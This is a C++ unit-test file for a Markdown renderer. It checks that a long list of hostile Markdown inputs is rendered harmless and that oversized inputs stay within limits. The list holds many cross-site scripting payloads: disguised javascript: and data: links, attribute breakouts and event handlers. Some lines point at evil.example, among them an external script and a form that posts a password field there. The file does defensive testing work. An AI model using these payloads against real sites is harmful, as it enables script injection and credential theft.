// Tests of hostile Markdown: what must never come out, and what must never cost more than it may.
#include "platform/text/markdown.h"
#include "platform/text/markdown_generators.h"
#include "platform/text/markdown_oracle.h"

#include <gtest/gtest.h>

namespace daymark::text {
namespace {

TEST(MarkdownOracle, NoticesWhatItMust) {
    for (const char* html : {"<script>",
                             "<p",
                             "<p>",
                             "</p>",
                             "<p></b></p>",
                             "<P></P>",
                             "<p onclick=\"x\"></p>",
                             "a > b",
                             "a & b",
                             "&#x3C;",
                             "\"",
                             "<a href=\"https://x\">x</a>",
                             "<a href=\"javascript:x\" rel=\"noopener nofollow\">x</a>",
                             "<a href=\"https:x\" rel=\"noopener nofollow\" href=\"y\">x</a>",
                             "<a rel=\"noopener nofollow\">x</a>",
                             "<a href=\"/x\" rel=\"noopener nofollow\">x</a>",
                             "<a href=\"java&amp;#115;cript:x\" rel=\"noopener nofollow\">x</a>",
                             "<a href='https://x' rel=\"noopener nofollow\">x</a>",
                             "<a href=https://x>x</a>",
                             "<br/>",
                             "<ol start=\"x\"></ol>",
                             "<img src=\"http://x\" alt=\"\" loading=\"lazy\">",
                             "<img src=\"https://x\" alt=\"\" onerror=\"x\">",
                             "<p style=\"x\"></p>",
                             "<p>\x01</p>",
                             "<p><ul></p></ul>",
                             "<pre class=\"x\"></pre>"}) {
        EXPECT_NE(HtmlOracle::flaw_in(html), "") << html;
    }
    EXPECT_EQ(
        HtmlOracle::flaw_in("<p>a &lt; b<br><a href=\"https://x?a&amp;b\" rel=\"noopener nofollow\">x</a></p>\n<hr>"),
        "");
}

constexpr std::string_view attacks[] = {
    // Schemes, plain and in disguise.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\x01script:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](&#x1F;javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](javascript&#0000058alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](&amp;#106;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](javascript%253Aalert(1))",
    "[x](jav\\ascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript://x.io/%0Aalert(1))",
    "[x](javascript:https://x.io)",
    "[x](vbscript:msgbox(1))",
    "[x](VbScRiPt:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data&colon;text/html,<script>alert(1)</script>)",
    "[x](blob:https://x.io/1)",
    "[x](file:///etc/passwd)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](livescript:alert(1))",
    "[x](\xE2\x80\x8Bjavascript:alert(1))",
    "[x](\xC2\xA0javascript:alert(1))",
    "[x](\xE2\x80\xAEjavascript:alert(1))",
    "[x](//evil.example/x)",
    "[x](\\\\\\\\evil.example)",
    "[x](https:javascript:alert(1))",
    "[x](https:\\\\evil.example)",
    "[x](?x=javascript:alert(1))",
    // Reference definitions.
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: <java\tscript:alert(1)>",
    "[x]: data:text/html,x \"t\"\n[x][]",
    "![x]\n\n[x]: javascript:alert(1)",
    // Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<javascript&colon;alert(1)>",
    "javascript:alert(1)//https://x.io",
    "https://x.io/\"onmouseover=\"alert(1)",
    "https://x.io/'onmouseover='alert(1)",
    "https://x.io/<script>alert(1)</script>",
    "https://x.io/\xE2\x80\xA8onclick=x",
    "www.x.io/\"onclick=alert(1)",
    "a@x.io\"onclick=\"alert(1)",
    "<a@x.io\"onclick=\"alert(1)>",
    "<mailto:a@x.io?body=\"><script>alert(1)</script>>",
    // Out of an attribute.
    "[x](https://x.io/\"onclick=\"alert(1))",
    "[x](https://x.io/&quot;onclick=&quot;alert(1))",
    "[x](https://x.io/&#34;&#62;&#60;script&#62;alert(1)&#60;/script&#62;)",
    "[x](<https://x.io/\"><script>alert(1)</script>>)",
    "[x](https://x.io \"t\\\" onclick=\\\"alert(1)\")",
    "[x](https://x.io 't\"><script>alert(1)</script>')",
    "[x](https://x.io\n\"onclick=alert(1)\")",
    "![\"onerror=\"alert(1)](https://x.io/y.png)",
    "![&quot;onerror=&quot;alert(1)](https://x.io/y.png)",
    "![x\n\"onerror=alert(1)](https://x.io/y.png)",
    "![x](https://x.io/\"onerror=\"alert(1))",
    "![`\"onerror=\"alert(1)`](https://x.io/y.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](http://x.io/track.gif)",
    "![x](//x.io/track.gif)",
    "![<img src=x onerror=alert(1)>](https://x.io/y.png)",
    // Raw HTML.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></math><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<style>*{background:url(https://evil.example)}</style>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=https://evil.example><input name=password>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<b\n onmouseover=\"alert(1)\">x</b>",
    "<p>\n\n**<script>alert(1)</script>**",
    "\xC0\xBCscript\xC0\xBE"
    "alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    // Inside other constructs.
    "`<script>alert(1)</script>`",
    "```<script>\n</code></pre><script>alert(1)</script>\n```",
    "```\"onclick=\"alert(1)\nx\n```",
    "    </code></pre><script>alert(1)</script>",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "| <script> | [x](javascript:alert(1)) |\n|---|---|\n| `</td><script>` | ![x](data:x) |",
    "~~[x](javascript:alert(1))~~",
    "[**x**](javascript:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[![x](https://x.io/y.png)](javascript:alert(1))",
    "[a [x](javascript:alert(1)) b](https://x.io)",
    "[https://x.io](javascript:alert(1))",
    "[javascript:alert(1)](https://x.io)",
    "[www.a.io <b@c.io> http://d.io](https://x.io)",
    "![a [b](javascript:alert(1)) ![c](data:x)](https://x.io/y.png)",
    "*[x](javascript:alert(1)*)",
    "[x](javascript:alert(1)\n[y](https://x.io)",
    "\x1b[31mred\x07",
};

TEST(MarkdownAttack, NothingComesOutButWhatIsAllowed) {
    static_assert(std::size(attacks) >= 60);
    for (const std::string_view attack : attacks) {
        const std::string html = markdown_to_html(attack);
        EXPECT_EQ(HtmlOracle::flaw_in(html), "") << attack << "\n" << html;
        EXPECT_EQ(HtmlOracle::flaw_in(markdown_to_html(attack, {.nodes = 1})), "") << attack;
    }
}

TEST(MarkdownAttack, AttacksInEveryPlaceStayHarmless) {
    for (const std::string_view attack : attacks) {
        const std::string text(attack);
        for (const std::string& placed :
             {"> - " + text, "*" + text + "*", "[" + text + "](https://x.io)", "![" + text + "](https://x.io/y.png)",
              "|" + text + "|\n|-|\n|" + text + "|", "[x](https://x.io/" + text + ")",
              "[x](https://x.io \"" + text + "\")", "<" + text + ">", "[x]\n\n[x]: " + text, text + text}) {
            const std::string html = markdown_to_html(placed);
            EXPECT_EQ(HtmlOracle::flaw_in(html), "") << placed << "\n" << html;
        }
    }
}

std::size_t count_elements(std::string_view html) {
    std::size_t count = 0;
    for (std::size_t at = html.find('<'); at != std::string_view::npos; at = html.find('<', at + 1)) {
        if (html.substr(at).starts_with("</")) continue;
        ++count;
    }
    return count;
}

TEST(MarkdownAttack, CostlyTextsStayWithinTheLimits) {
    const MarkdownLimits limits;
    static_assert(costly_texts.size() >= 12);
    for (const CostlyText& costly : costly_texts) {
        const std::string markdown = costly.make(limits.bytes);
        ASSERT_LE(markdown.size(), limits.bytes) << costly.name;
        ASSERT_GT(markdown.size(), limits.bytes * 9 / 10) << costly.name;
        const std::string html = markdown_to_html(markdown);
        EXPECT_EQ(HtmlOracle::flaw_in(html), "") << costly.name;
        EXPECT_LE(count_elements(html), limits.nodes) << costly.name;
        EXPECT_LE(html.size(), 2u * 1024 * 1024) << costly.name;
        EXPECT_LE(markdown_to_plain(markdown).size(), 1024u * 1024) << costly.name;
    }
}

TEST(MarkdownAttack, NothingBehindTheTextIsRead) {
    // A view need not end in NUL, and what lies behind it in memory may be someone else's. A bracket there once led the
    // parser on past the end of the first two.
    for (const std::string text :
         {"[x](//evil.e](//x)", "[x](&#101)[x](&#106;&#9rt(1))", "[a](b", "<a", "`a", "|a|\n|-"}) {
        const std::string page = text + ")SECRET(SECRET](SECRET\"SECRET`SECRET>";
        const std::string_view view = std::string_view(page).substr(0, text.size());
        EXPECT_EQ(markdown_to_html(view), markdown_to_html(text)) << text;
        EXPECT_EQ(markdown_to_html(view).find("SECRET"), std::string::npos) << text;
        EXPECT_EQ(markdown_to_plain(view).find("SECRET"), std::string::npos) << text;
    }
}

}  // namespace
}  // namespace daymark::text
